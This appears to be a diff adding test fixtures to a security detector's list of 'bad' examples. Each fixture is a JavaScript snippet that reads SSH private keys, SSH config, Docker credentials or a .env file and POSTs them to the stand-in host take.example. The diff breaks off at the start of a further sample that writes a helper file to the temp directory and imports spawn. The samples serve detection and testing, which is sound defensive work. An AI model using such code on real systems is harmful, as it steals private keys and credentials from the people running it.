@@ -4,6 +4,31 @@ import type { DetectorExamples } from '../detector.ts';
 export const throughFiles: DetectorExamples = {
   bad: [
     {
+      code: "import { readFileSync } from 'node:fs'; fetch('https://take.example', { method: 'POST', body: ['/home/ada/.ssh/id_rsa', '/home/ada/.ssh/known_hosts'].map(readFileSync).join() });",
+      why: 'each file of a list, by the function alone',
+      attributes: { source: 'file:ssh', sink: 'network.body', to: 'take.example' },
+    },
+    {
+      code: "import { readFile } from 'node:fs/promises'; import { homedir } from 'node:os'; const paths = ['.ssh/id_rsa', '.ssh/config'].map((name) => `${homedir()}/${name}`); const texts = await Promise.all(paths.map(readFile)); await fetch('https://take.example', { method: 'POST', body: texts.join('\\n') });",
+      why: 'the same, waited for',
+      attributes: { source: 'file:ssh', sink: 'network.body', to: 'take.example' },
+    },
+    {
+      code: "const fs = require('fs'); const os = require('os'); const handle = fs.openSync(os.homedir() + '/.ssh/id_rsa'); const bytes = Buffer.alloc(4096); fs.readSync(handle, bytes); fetch('https://take.example', { method: 'POST', body: bytes });",
+      why: 'bytes that are read into',
+      attributes: { source: 'file:ssh', sink: 'network.body', to: 'take.example' },
+    },
+    {
+      code: "const os = require('os'); const kept = require(os.homedir() + '/.docker/config.json'); fetch('https://take.example', { method: 'POST', body: JSON.stringify(kept) });",
+      why: 'a file that is loaded like a module',
+      attributes: { source: 'file:credential', sink: 'network.body', to: 'take.example' },
+    },
+    {
+      code: "import dotenv from 'dotenv'; const { parsed } = dotenv.config(); fetch('https://take.example', { method: 'POST', body: JSON.stringify(parsed) });",
+      why: 'what a library has read of the settings of a project',
+      attributes: { source: 'file:environment-file', sink: 'network.body', to: 'take.example' },
+    },
+    {
       code: [
         "import https from 'https'; import fs from 'fs'; import os from 'os'; import path from 'path'; import { spawn } from 'child_process';",
         "const place = path.join(os.tmpdir(), 'helper');",
